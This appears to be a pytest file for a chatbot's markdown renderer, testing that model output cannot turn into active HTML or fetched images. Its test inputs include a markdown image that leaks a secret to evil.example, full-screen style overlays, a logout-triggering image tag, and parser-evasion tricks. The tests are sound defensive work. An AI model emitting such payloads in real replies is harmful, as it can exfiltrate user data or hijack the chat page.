"""What a model writes reaches the page as text and formulas, never as HTML that acts; code stays as it was."""

import re

import pytest

from chatbot.ui.markdown import JOINER, as_typed, markdown, typed


@pytest.mark.parametrize(
    ("model", "page"),
    [
        ("update $\\Delta W = BA$.", "update \\(\\Delta W = BA\\)."),
        ("It costs $5 and $6.", "It costs $5 and $6."),
        ("from $5-$10 each", "from $5-$10 each"),
        ("`echo $HOME $PATH`", "`echo $HOME $PATH`"),
        ("```sh\na=$x b=$y\n```", "```sh\na=$x b=$y\n```"),
        ("```py\nprice = '$a$'", "```py\nprice = '$a$'"),
        ("$$x^2$$", "$$x^2$$"),
        ("![cat](https://evil.example/?q=secret)", "[cat](https://evil.example/?q=secret)"),
        ("![](http://e.example/a.png 'title')", "[image](http://e.example/a.png)"),
        ("```\n![cat](https://x.example)\n```", "```\n![cat](https://x.example)\n```"),
        ("water is H<sub>2</sub>O, line<br>two", "water is H<sub>2</sub>O, line<br>two"),
        ("a < b and b > c, 1<2", "a < b and b > c, 1<2"),
    ],
)
def test_markdown(model: str, page: str) -> None:
    assert markdown(model) == page


@pytest.mark.parametrize(
    "code",
    [
        "```html\n<div style='x'>a</div>\n```",
        "Do this:\n```cpp\nstd::vector<int> v;\n```\nand `List<String>` too, `<br>` as well.",
        "1. Do:\n   ```html\n   <p>\n   ```\n2. Then `Map<a>`.",
        "~~~\n<x>\n~~~\n\n```\n<y>\n```",
        "```html\n<div>",
    ],
)
def test_code_is_as_it_was(code: str) -> None:
    assert markdown(code) == code


@pytest.mark.parametrize(
    "text",
    [
        '<div style="position:fixed;inset:0">x</div>',
        'a\n<img src="/logout">',
        "<b style='x'>a</b> and words <span style='position:fixed'>b</span>",
        "\\`<div style='x'>`",
        "[a](http://x/`y) <div style='x'> `",
        "~a ` b~ <div style='x'> `",
        "a ` b\nc ` <div style='x'> `",
        "| ` | <div style='x'> ` |\n|---|---|",
        "- a\n  ```\n<div style='x'>\n  ```",
        "$$\n```\n$$\n<div style='x'>\n```",
        "```\na\n```~~~\n<div style='x'>",
        "%%%LATEX_BLOCK_0%%% <div style='x'>",
        "<custom>\n<div style='x'>",
    ],
)
def test_what_may_be_read_as_html_is_none(text: str) -> None:
    shown = markdown(text)
    assert "<div style" not in shown and "<img" not in shown and "<span style" not in shown
    assert shown.replace(JOINER, "") == text, "nothing else has changed"


@pytest.mark.parametrize(
    "text", ["```mermaid\n<div style='x'>\n```", "> ```mermaid\n> graph\n> ```", "~~~ mermaid\na\n~~~"]
)
def test_a_diagram_is_shown_as_its_source(text: str) -> None:
    """The page would put what stands in it into its own HTML, and the diagram's styles could cover it."""
    for shown in (markdown(text), typed(text)):
        assert not re.search(r"[`~]{3,}[ \t]*mermaid", shown)
        assert re.search(r"[`~]{3}", shown), "it is code still"
    assert as_typed(typed(text)) == text


@pytest.mark.parametrize(
    "text", ["![a][b]\n\n[b]: /logout", "![a[c]](/logout)", "![a](\n/logout)", "!\\[a](/x) ![a]( /x"]
)
def test_no_picture_is_fetched(text: str) -> None:
    assert "![" not in markdown(text)
